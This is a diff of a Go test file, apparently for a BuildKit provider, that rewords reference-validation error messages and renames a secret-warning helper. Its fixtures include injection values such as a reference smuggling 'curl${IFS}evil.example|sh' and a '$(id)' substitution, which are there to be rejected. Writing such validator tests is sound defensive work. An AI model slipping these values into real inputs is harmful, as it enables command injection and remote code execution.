@@ -27,16 +27,16 @@ var refusals = map[string]struct {
 		"pulumi config set --path 'buildkit:frontends[0]' '[::1]:5000/x'", "valid",
 	},
 	"a command": {
-		&buildkit.FrontendError{Reference: "evil.example/x;curl${IFS}evil.example|sh"}, "It is no valid reference",
+		&buildkit.FrontendError{Reference: "evil.example/x;curl${IFS}evil.example|sh"}, "It is not a valid reference",
 		"config set",
 	},
 	"substitution": {
-		&buildkit.FrontendError{Reference: "evil.example/$(id)"}, "It is no valid reference", "config set",
+		&buildkit.FrontendError{Reference: "evil.example/$(id)"}, "It is not a valid reference", "config set",
 	},
 	"a second word": {
-		&buildkit.FrontendError{Reference: "evil.example/x --plaintext"}, "It is no valid reference", "config set",
+		&buildkit.FrontendError{Reference: "evil.example/x --plaintext"}, "It is not a valid reference", "config set",
 	},
-	"nothing": {&buildkit.FrontendError{}, "It is no valid reference", "config set"},
+	"nothing": {&buildkit.FrontendError{}, "It is not a valid reference", "config set"},
 	"a registry": {
 		&buildkit.ReachError{Host: "127.0.0.1:5000", Address: loopback, Image: true},
 		`registries: [{ address: "127.0.0.1:5000" }]`, "correct",
@@ -94,7 +94,7 @@ func TestWarningsOfLocations(t *testing.T) {
 		Context: "https://files.example/a.tgz?token=c4n4ry",
 		Named:   map[string]string{"lib": "https://me:c4n4ry@git.example/r.git"},
 	}
-	tokens, logins := tokenWarnings(files), loginWarnings(files)
+	tokens, logins := querySecretWarnings(files), loginWarnings(files)
 	if len(tokens) != 1 || !strings.HasPrefix(tokens[0], "context.location: ") || !strings.Contains(tokens[0],
 		"HTTP_AUTH_TOKEN_files.example") {
 		t.Error(tokens)
